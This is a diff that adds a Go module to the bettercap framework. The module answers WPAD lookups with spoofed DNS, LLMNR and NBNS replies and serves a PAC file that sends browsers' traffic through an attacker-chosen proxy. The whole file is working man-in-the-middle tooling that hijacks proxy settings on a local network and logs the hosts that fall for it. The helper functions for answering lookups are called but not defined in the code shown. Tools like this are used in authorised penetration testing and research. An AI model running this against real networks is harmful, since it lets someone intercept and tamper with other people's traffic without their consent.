@@ -0,0 +1,241 @@
+package wpad_server
+
+import (
+	"context"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/fs"
+	"github.com/evilsocket/islazy/str"
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	ResolveDNS   = "dns"
+	ResolveLLMNR = "llmnr"
+	ResolveNBNS  = "nbns"
+
+	pacTemplate = `function FindProxyForURL(url, host) {
+	if (isPlainHostName(host) || dnsDomainIs(host, "%s")) {
+		return "DIRECT";
+	}
+	return "PROXY %s; DIRECT";
+}
+`
+)
+
+type WPADServer struct {
+	session.SessionModule
+	server        *http.Server
+	Handle        *pcap.Handle
+	address       net.IP
+	proxy         string
+	pac           []byte
+	resolve       map[string]bool
+	ttl           uint32
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewWPADServer(s *session.Session) *WPADServer {
+	mod := &WPADServer{
+		SessionModule: session.NewSessionModule("wpad.server", s),
+		server:        &http.Server{},
+		resolve:       make(map[string]bool),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("wpad.server.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the WPAD server to, WPAD lookups are answered with this address."))
+
+	mod.AddParam(session.NewIntParameter("wpad.server.port",
+		"80",
+		"Port to bind the WPAD server to, browsers always fetch wpad.dat from port 80."))
+
+	mod.AddParam(session.NewStringParameter("wpad.server.proxy",
+		"",
+		"",
+		"Address and port of the proxy browsers will be configured to use, if empty the WPAD server address and http.proxy.port will be used."))
+
+	mod.AddParam(session.NewStringParameter("wpad.server.pac",
+		"",
+		"",
+		"If not empty, the proxy auto configuration file to serve instead of the generated one."))
+
+	mod.AddParam(session.NewStringParameter("wpad.server.resolve",
+		"dns,llmnr,nbns",
+		"",
+		"Comma separated list of protocols to answer WPAD lookups on, supported values are dns, llmnr and nbns. If empty, lookups won't be answered."))
+
+	mod.AddParam(session.NewIntParameter("wpad.server.ttl",
+		"300",
+		"TTL of the spoofed answers to WPAD lookups."))
+
+	mod.AddHandler(session.NewModuleHandler("wpad.server on", "",
+		"Start the WPAD server.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("wpad.server off", "",
+		"Stop the WPAD server.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod *WPADServer) Name() string {
+	return "wpad.server"
+}
+
+func (mod *WPADServer) Description() string {
+	return "Serves a proxy auto configuration file pointing to http.proxy and answers WPAD lookups, so that browsers configure the proxy automatically."
+}
+
+func (mod *WPADServer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+// the http.proxy port if set, or its default.
+func (mod *WPADServer) proxyPort() int {
+	if err, port := mod.Session.Env.GetInt("http.proxy.port"); err == nil {
+		return port
+	}
+	return 8080
+}
+
+func (mod *WPADServer) Configure() error {
+	var err error
+	var address string
+	var port int
+	var pacFile string
+	var resolve string
+	var ttl int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, address = mod.StringParam("wpad.server.address"); err != nil {
+		return err
+	} else if err, port = mod.IntParam("wpad.server.port"); err != nil {
+		return err
+	} else if err, mod.proxy = mod.StringParam("wpad.server.proxy"); err != nil {
+		return err
+	} else if err, pacFile = mod.StringParam("wpad.server.pac"); err != nil {
+		return err
+	} else if err, resolve = mod.StringParam("wpad.server.resolve"); err != nil {
+		return err
+	} else if err, ttl = mod.IntParam("wpad.server.ttl"); err != nil {
+		return err
+	} else if ttl < 0 {
+		return fmt.Errorf("wpad.server.ttl can't be negative")
+	}
+
+	mod.address = net.ParseIP(address)
+	mod.ttl = uint32(ttl)
+
+	if mod.proxy == "" {
+		mod.proxy = fmt.Sprintf("%s:%d", address, mod.proxyPort())
+	}
+
+	if pacFile != "" {
+		if pacFile, err = fs.Expand(pacFile); err != nil {
+			return err
+		} else if mod.pac, err = ioutil.ReadFile(pacFile); err != nil {
+			return err
+		}
+	} else {
+		mod.pac = []byte(fmt.Sprintf(pacTemplate, address, mod.proxy))
+	}
+
+	mod.resolve = make(map[string]bool)
+	for _, proto := range str.Comma(strings.ToLower(resolve)) {
+		if proto != ResolveDNS && proto != ResolveLLMNR && proto != ResolveNBNS {
+			return fmt.Errorf("unsupported protocol '%s'", proto)
+		}
+		mod.resolve[proto] = true
+	}
+
+	router := http.NewServeMux()
+	router.HandleFunc("/wpad.dat", mod.servePAC)
+	router.HandleFunc("/proxy.pac", mod.servePAC)
+	mod.server = &http.Server{
+		Addr:    fmt.Sprintf("%s:%d", address, port),
+		Handler: router,
+	}
+
+	if len(mod.resolve) > 0 {
+		if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+			return err
+		} else if err = mod.Handle.SetBPFFilter(mod.bpfFilter()); err != nil {
+			mod.Handle.Close()
+			return err
+		}
+	}
+
+	return nil
+}
+
+func (mod *WPADServer) servePAC(w http.ResponseWriter, r *http.Request) {
+	clientIP := strings.Split(r.RemoteAddr, ":")[0]
+	who := clientIP
+	if e := mod.Session.Lan.GetByIp(clientIP); e != nil {
+		who = e.String()
+	}
+
+	mod.Info("%s downloaded %s (%s)", tui.Bold(who), r.URL.Path, tui.Dim(r.UserAgent()))
+
+	w.Header().Set("Content-Type", "application/x-ns-proxy-autoconfig")
+	w.Write(mod.pac)
+}
+
+func (mod *WPADServer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("serving http://%s/wpad.dat pointing to proxy %s", mod.server.Addr, tui.Bold(mod.proxy))
+
+		if mod.Handle != nil {
+			src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+			mod.pktSourceChan = src.Packets()
+			mod.waitGroup.Add(1)
+			go mod.resolver()
+		}
+
+		if err := mod.server.ListenAndServe(); err != nil && err != http.ErrServerClosed {
+			mod.Error("%v", err)
+			mod.Stop()
+		}
+	})
+}
+
+func (mod *WPADServer) Stop() error {
+	return mod.SetRunning(false, func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+		defer cancel()
+		mod.server.Shutdown(ctx)
+
+		if mod.Handle != nil {
+			mod.pktSourceChan <- nil
+			mod.Handle.Close()
+			mod.waitGroup.Wait()
+			mod.Handle = nil
+		}
+	})
+}